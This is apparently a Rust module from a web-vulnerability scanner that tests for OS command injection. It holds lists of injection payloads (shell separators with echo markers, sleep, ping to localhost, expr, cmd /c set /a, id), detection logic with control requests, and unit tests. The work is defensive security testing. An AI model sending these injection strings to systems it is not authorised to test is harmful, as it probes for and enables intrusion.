//! OS command injection: output-based and time-based, Unix and Windows, through a shell
//! (separators, substitution) and without one (the input is the command, or arguments
//! appended to a fixed program's argument vector).

use super::common::inject;
use crate::catalogue::{locs, module_id, OWASP_A03};
use crate::client::{SendError, Sent};
use crate::ctx::{Ctx, Hit};
use crate::finding::Confidence;
use crate::target::{InsertionPoint, Resource};
use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
use rampart_domain::{ModuleType, Severity};

pub(crate) const KEY: &str = "cmdi";

pub(crate) fn meta() -> ModuleMeta {
    ModuleMeta {
        id: module_id(KEY),
        key: KEY,
        name: "OS Command Injection",
        description: "<p>Request input reaches an operating-system shell command. An attacker can run arbitrary commands with the privileges of the application.</p>",
        recommendation: "Avoid calling a shell; use library APIs or pass arguments as an argument vector without a shell. If unavoidable, allow-list the input strictly.",
        module_type: ModuleType::Active,
        severity: Severity::Critical,
        cwe: 78,
        wasc: Some(31),
        owasp_2021: "A03:2021-Injection",
        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        parameter_locations: locs::INPUTS,
        references: &[
            ("CWE-78: Improper Neutralization of Special Elements used in an OS Command", "https://cwe.mitre.org/data/definitions/78.html"),
            ("OWASP OS Command Injection Defense Cheat Sheet", "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html"),
            OWASP_A03,
        ],
        attacks: &[
            AttackMeta {
                id: "CMDI_01",
                kind: "Output-based command injection",
                class: "Injection",
                description: "Command separators followed by an arithmetic echo of random numbers; the computed product must appear and the expression must not.",
            },
            AttackMeta {
                id: "CMDI_02",
                kind: "Time-based command injection",
                class: "Injection",
                description: "Command separators followed by sleep or ping with two delays; the response time must grow linearly.",
            },
            AttackMeta {
                id: "CMDI_03",
                kind: "Command executed without a shell (output)",
                class: "Injection",
                description: "The input as a whole command (expr and cmd /c set /a arithmetic on random operands, id): the computed result must appear, and must not when the program name is replaced by a non-existent one.",
            },
            AttackMeta {
                id: "CMDI_04",
                kind: "Command or argument executed without a shell (time)",
                class: "Injection",
                description: "The input as a whole command (sleep, ping -c/-n) or extra options appended to a program's arguments (ping counts); the response time must grow linearly.",
            },
        ],
    }
}

/// Output-based forms: `X` and `Y` are random markers that only a shell joins into `XY`
/// (quotes or `^` between them are removed by the shell, not by a reflection).
const ECHO: &[&str] = &[
    ";echo X\"\"Y",
    "|echo X\"\"Y",
    "&&echo X\"\"Y",
    "$(echo X\"\"Y)",
    "`echo X\"\"Y`",
    "';echo X\"\"Y;'",
    "\";echo X''Y;\"",
    "\necho X\"\"Y\n",
    "&echo X^Y",
    "|echo X^Y",
];
/// Time-based forms; `D` is the delay in seconds.
const SLEEP: &[&str] = &[
    ";sleep D",
    "|sleep D",
    "$(sleep D)",
    "`sleep D`",
    "';sleep D;'",
    "& ping -n E 127.0.0.1 &",
];

/// Whole-command forms run without a shell: `A` and `B` are random operands, the result the
/// program prints is computed by [`exec_result`]; `{P}` is the program name (replaced by a
/// non-existent one for the control request).
const EXEC: &[(&str, Os)] = &[
    ("{P} A + B", Os::Unix),
    ("/usr/bin/{P} A + B", Os::Unix),
    ("cmd /c set /a A*B", Os::Windows),
    ("cmd.exe /c set /a A*B", Os::Windows),
];
/// Time-based forms without a shell: `W` marks a whole-command form (the original value is
/// replaced), otherwise the form is appended to the original value as extra arguments.
const EXEC_SLEEP: &[&str] = &[
    "W sleep D",
    "W ping -c E 127.0.0.1",
    "W ping -n E 127.0.0.1",
    " -c E",
    " -n E",
];

#[derive(Clone, Copy)]
enum Os {
    Unix,
    Windows,
}

/// What the whole-command form prints for operands `a` and `b`.
fn exec_result(os: Os, a: u64, b: u64) -> String {
    match os {
        Os::Unix => (a + b).to_string(),
        Os::Windows => (a * b).to_string(),
    }
}

/// The `id` program's output: `uid=33(www-data) gid=33(www-data)`.
static ID_OUTPUT: std::sync::LazyLock<Option<regex::Regex>> =
    std::sync::LazyLock::new(|| regex::Regex::new(r"uid=\d+\([^)\s]*\) gid=\d+\(").ok());

/// A program run without a shell printed `result`, which neither the original page nor
/// the reflection of `value` shows.
fn exec_ran(orig_text: &str, resp_text: &str, value: &str, result: &str) -> bool {
    let text = crate::similarity::strip(resp_text, &[value]);
    contains_number(&text, result) && !contains_number(orig_text, result)
}

/// `n` appears in `text` as a whole number (not inside a longer one).
fn contains_number(text: &str, n: &str) -> bool {
    text.match_indices(n).any(|(i, _)| {
        let before = text[..i].chars().next_back();
        let after = text[i + n.len()..].chars().next();
        !before.is_some_and(|c| c.is_ascii_digit()) && !after.is_some_and(|c| c.is_ascii_digit())
    })
}

/// The input is run as a whole command, without a shell: arithmetic whose result only the
/// program computes (a control with a non-existent program name must not show it), then
/// `id`'s output format.
async fn attack_exec(
    ctx: &Ctx,
    r: &Resource,
    orig: &Sent,
    p: &InsertionPoint,
) -> Result<bool, SendError> {
    let orig_text = orig.response.text();
    for (form, os) in EXEC {
        let (a, b) = (super::common::num(10_000, 99_999), super::common::num(10_000, 99_999));
        let fill = |program: &str, a: u64, b: u64| {
            // Operands first: a random program name may hold the letters A or B.
            form.replace('A', &a.to_string())
                .replace('B', &b.to_string())
                .replace("{P}", program)
        };
        let value = fill("expr", a, b);
        let result = exec_result(*os, a, b);
        let sent = inject(ctx, r, p, &value).await?;
        if !exec_ran(&orig_text, &sent.response.text(), &value, &result) {
            continue;
        }
        // Control: the same arithmetic under a program that does not exist. An evaluator
        // of any text (a calculator, a template) would still print the result.
        let (c, d) = (super::common::num(10_000, 99_999), super::common::num(10_000, 99_999));
        let control_value = if form.contains("{P}") {
            fill(&format!("rmpz{}", crate::rand_id(4)), c, d)
        } else {
            fill("", c, d).replacen("cmd", &format!("rmpz{}", crate::rand_id(4)), 1)
        };
        let control = inject(ctx, r, p, &control_value).await?;
        if exec_ran(&orig_text, &control.response.text(), &control_value, &exec_result(*os, c, d)) {
            return Ok(false);
        }
        ctx.report_point(r, Some(p), Hit {
            module: KEY,
            attack_id: "CMDI_03",
            value: &value,
            proof: result,
            proof_description: "the input was run as a program without a shell: the arithmetic result only that program computes appears, and does not when the program name is one that does not exist",
            confidence: Confidence::Confirmed,
            original: Some(orig),
            attack: Some(&sent),
        })
        .await;
        return Ok(true);
    }
    if let Some(re) = ID_OUTPUT.as_ref() {
        if !re.is_match(&orig_text) {
            let sent = inject(ctx, r, p, "id").await?;
            let text = crate::similarity::strip(&sent.response.text(), &["id"]);
            if let Some(m) = re.find(&text) {
                ctx.report_point(r, Some(p), Hit {
                    module: KEY,
                    attack_id: "CMDI_03",
                    value: "id",
                    proof: m.as_str().to_string(),
                    proof_description: "the input was run as a program: the output of id appears",
                    confidence: Confidence::Firm,
                    original: Some(orig),
                    attack: Some(&sent),
                })
                .await;
                return Ok(true);
            }
        }
    }
    Ok(false)
}

/// Time-based forms without a shell (whole command, or extra arguments).
async fn attack_exec_timed(
    ctx: &Ctx,
    r: &Resource,
    orig: &Sent,
    p: &InsertionPoint,
) -> Result<bool, SendError> {
    for t in EXEC_SLEEP {
        let build = |d: f64| {
            let d = d.round() as u64;
            let form = t
                .replace('D', &d.to_string())
                .replace('E', &(d + 1).to_string());
            match form.strip_prefix("W ") {
                Some(whole) => whole.to_string(),
                None => format!("{}{form}", p.original),
            }
        };
        let Some(hit) = super::common::timed(ctx, r, p, false, build).await? else {
            continue;
        };
        ctx.report_point(r, Some(p), Hit {
            module: KEY,
            attack_id: "CMDI_04",
            value: &hit.value,
            proof: hit.proof,
            proof_description: "the response time follows the delay asked of a program run without a shell, linearly",
            confidence: Confidence::Firm,
            original: Some(orig),
            attack: Some(&hit.sent),
        })
        .await;
        return Ok(true);
    }
    Ok(false)
}

pub(crate) async fn attack(
    ctx: &Ctx,
    r: &Resource,
    orig: &Sent,
    p: &InsertionPoint,
) -> Result<(), SendError> {
    if ctx.already(KEY, r, Some(p)).await {
        return Ok(());
    }
    let orig_text = orig.response.text();
    for e in ECHO {
        let (x, y) = (
            format!("rmpa{}", crate::rand_id(6)),
            format!("rmpb{}", crate::rand_id(6)),
        );
        let joined = format!("{x}{y}");
        let value = format!("{}{}", p.original, e.replace('X', &x).replace('Y', &y));
        let sent = inject(ctx, r, p, &value).await?;
        if shell_joined(&orig_text, &sent.response.text(), &value, &x, &y) {
            ctx.report_point(r, Some(p), Hit {
                module: KEY,
                attack_id: "CMDI_01",
                value: &value,
                proof: joined,
                proof_description: "a shell ran the injected echo: the two markers appear joined, as only a shell would print them",
                confidence: Confidence::Confirmed,
                original: Some(orig),
                attack: Some(&sent),
            })
            .await;
            return Ok(());
        }
    }
    // A number is never a command line: the forms without a shell skip numeric values.
    let numeric = !p.original.is_empty() && p.original.chars().all(|c| c.is_ascii_digit());
    if !numeric && attack_exec(ctx, r, orig, p).await? {
        return Ok(());
    }
    let fill = |t: &str, d: u64| {
        format!(
            "{}{}",
            p.original,
            t.replace('D', &d.to_string())
                .replace('E', &(d + 1).to_string())
        )
    };
    for t in SLEEP {
        let Some(hit) = super::common::timed(ctx, r, p, false, |d| fill(t, d.round() as u64)).await? else {
            continue;
        };
        ctx.report_point(
            r,
            Some(p),
            Hit {
                module: KEY,
                attack_id: "CMDI_02",
                value: &hit.value,
                proof: hit.proof,
                proof_description: "the response time follows the injected sleep, linearly",
                confidence: Confidence::Firm,
                original: Some(orig),
                attack: Some(&hit.sent),
            },
        )
        .await;
        return Ok(());
    }
    if !numeric {
        attack_exec_timed(ctx, r, orig, p).await?;
    }
    Ok(())
}

/// A shell ran the echo of `value`: markers `x` and `y` appear joined in the response (and
/// not in the original) and not as the echoed command itself.
fn shell_joined(orig_text: &str, resp_text: &str, value: &str, x: &str, y: &str) -> bool {
    // The page may echo the input: judge only what is not a reflection of it.
    let text = crate::similarity::strip(resp_text, &[value]);
    let joined = format!("{x}{y}");
    text.contains(&joined) && !orig_text.contains(&joined) && !text.contains(&format!("echo {x}"))
}

#[cfg(test)]
mod tests {
    use super::{exec_ran, shell_joined};

    #[test]
    fn exec_results_are_computed_not_reflected() {
        let orig = "<pre> 17:01:02 up 12 days</pre>";
        let v = "expr 12345 + 54321";
        let table: &[(&str, &str, bool)] = &[
            ("program output", "<pre>66666\n</pre>", true),
            ("windows set /a output", "<pre>66666</pre>", true),
            ("command reflected", "<pre>Unknown task: expr 12345 + 54321</pre>", false),
            ("inside a longer number", "<p>order 1666660</p>", false),
            ("error message", "<pre>exec: \"expr\": not found</pre>", false),
        ];
        for (name, resp, want) in table {
            assert_eq!(exec_ran(orig, resp, v, "66666"), *want, "{name}");
        }
        assert!(!exec_ran("<p>66666</p>", "<p>66666</p>", v, "66666"), "already on the page");
        let id = super::ID_OUTPUT.as_ref().unwrap();
        assert!(id.is_match("uid=33(www-data) gid=33(www-data) groups=33(www-data)"));
        assert!(!id.is_match("<p>uid=33 gid=33</p>"));
    }

    const ORIG: &str = "<pre>PING 127.0.0.1: 56 data bytes</pre>";

    #[test]
    fn examples() {
        let (x, y) = ("rmpaq1w2e3", "rmpbr4t5y6");
        let v = format!("127.0.0.1;echo {x}\"\"{y}");
        let table: &[(&str, String, bool)] = &[
            (
                "shell output",
                format!("<pre>PING 127.0.0.1\n{x}{y}\n</pre>"),
                true,
            ),
            (
                "input reflected as is",
                format!("<pre>ping {v}</pre>"),
                false,
            ),
            (
                "reflected with quotes dropped by a filter",
                format!("<pre>ping 127.0.0.1;echo {x}{y}</pre>"),
                false,
            ),
            ("markers apart", format!("<p>{x} {y}</p>"), false),
            ("nothing", ORIG.to_string(), false),
        ];
        for (name, resp, want) in table {
            assert_eq!(shell_joined(ORIG, resp, &v, x, y), *want, "{name}");
        }
        let orig = format!("<p>{x}{y}</p>");
        assert!(!shell_joined(&orig, &orig, &v, x, y));
    }
}
